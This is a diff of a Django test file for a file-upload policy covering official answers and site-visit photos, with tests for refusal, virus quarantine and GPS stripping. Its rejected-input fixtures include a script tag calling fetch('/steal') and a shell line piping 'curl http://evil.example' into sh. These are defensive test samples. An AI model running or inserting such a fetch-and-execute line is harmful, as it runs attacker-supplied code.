@@ -12,7 +12,8 @@ from django.utils import translation
 
 from intake.attachments import ATTACHMENT_MAX_FILES, IncomingFile, attachment_check
 from intake.errors import IntakeError
-from intake.models import Attachment
+from intake.models import Attachment, Quarantine
+from tests.fixtures.uploads.corpus import CORPUS, jpeg, png, sample_bytes
 from tests.workflow.factories import official_make, reference_make, request_make
 from workflow.followup import (
     official_answer_record,
@@ -65,7 +66,7 @@ def test_it_writes_a_history_row_when_a_resumable_upload_completes(operator):
     from workflow.followup import upload_begin, upload_chunk
 
     request = request_make()
-    photo = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01" + b"\x00" * 2000 + b"\xff\xd9"
+    photo = jpeg((160, 120))
     upload = upload_begin(request=request, user=operator, filename="visit.jpg", size=len(photo))
     upload_chunk(upload_id=upload.pk, user=operator, offset=0, data=photo[:1000])
     assert not request.history.filter(action="attach").exists()
@@ -82,9 +83,9 @@ def _both(message) -> tuple[str, str]:
     return fa, en
 
 
-PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64
+PNG = png()
 NOT_PHOTOS = [
-    (b"<html><body><script>fetch('/steal')</script></body></html>", "برنامه یا اسکریپت", "program or script"),
+    (b"<html><body><script>fetch('/steal')</script></body></html>", "صفحهٔ وب یا اسکریپت", "web-page or script"),
     (b"#!/bin/sh\ncurl http://evil.example | sh\n", "برنامه یا اسکریپت", "program or script"),
     (b"just some words, not a picture at all", "تصویری نیست", "not an image"),
 ]
@@ -175,3 +176,52 @@ def test_it_limits_the_number_of_files_of_an_answer_and_of_a_visit_like_intake(o
               for i in range(ATTACHMENT_MAX_FILES + 1)]
     with pytest.raises(TransitionRefused):
         site_visit_record(request=request, actor=followup_expert, photo_ids=photos)
+
+
+# ---------------------------------------------------------------- the upload corpus through answers and visits
+
+@pytest.mark.parametrize("key", list(CORPUS))
+def test_it_applies_the_upload_policy_to_the_whole_corpus_in_an_official_answer(operator, followup_expert, clamd,
+                                                                                settings, tmp_path, key):
+    settings.MEDIA_ROOT = tmp_path
+    sample = CORPUS[key]
+    request = request_make()
+    workflow_start(request=request, actor=operator, assignee=followup_expert)
+    upload = SimpleUploadedFile(sample.name, sample_bytes(key))
+    if sample.outcome in ("refused", "quarantined"):
+        with pytest.raises(TransitionRefused) as refused:
+            official_answer_record(request=request, actor=followup_expert, text="پاسخ منطقه", files=[upload])
+        assert 400 <= refused.value.status < 500 and sample.name in _both(refused.value.message)[0]
+        assert not OfficialAnswer.objects.filter(request=request).exists()
+        assert not Attachment.objects.filter(request=request).exists()
+        quarantined = Quarantine.objects.filter(request=request)
+        assert quarantined.exists() is (sample.outcome == "quarantined")
+        if sample.outcome == "quarantined":
+            assert refused.value.status == 422 and refused.value.code == "infected"
+            assert quarantined.get().uploaded_by == followup_expert and quarantined.get().signature
+        return
+    answer = official_answer_record(request=request, actor=followup_expert, text="پاسخ منطقه", files=[upload])
+    attachment = answer.attachments.get()
+    with attachment.file.open("rb") as stored:
+        assert (stored.read() == sample_bytes(key)) is (sample.outcome == "accepted")
+
+
+@pytest.mark.parametrize("key", [k for k, s in CORPUS.items() if s.outcome != "accepted"])
+def test_it_applies_the_upload_policy_to_the_whole_corpus_in_site_visit_photos(operator, followup_expert, clamd,
+                                                                               settings, tmp_path, key):
+    settings.MEDIA_ROOT = tmp_path
+    sample = CORPUS[key]
+    request = request_make()
+    workflow_start(request=request, actor=operator, assignee=followup_expert)
+    if sample.outcome == "cleaned":
+        _upload, done = _upload_whole(request, followup_expert, "visit.jpg", sample_bytes(key))
+        with done.attachment.file.open("rb") as stored:
+            kept = stored.read()
+        assert kept != sample_bytes(key) and b"GPS" not in kept and done.attachment.kind == Attachment.Kind.PHOTO
+        return
+    with pytest.raises(TransitionRefused) as refused:
+        _upload_whole(request, followup_expert, "visit.jpg", sample_bytes(key))
+    assert 400 <= refused.value.status < 500
+    assert not Attachment.objects.filter(request=request).exists()
+    assert not ChunkedUpload.objects.filter(request=request).exists()
+    assert Quarantine.objects.filter(request=request).exists() is (sample.outcome == "quarantined")
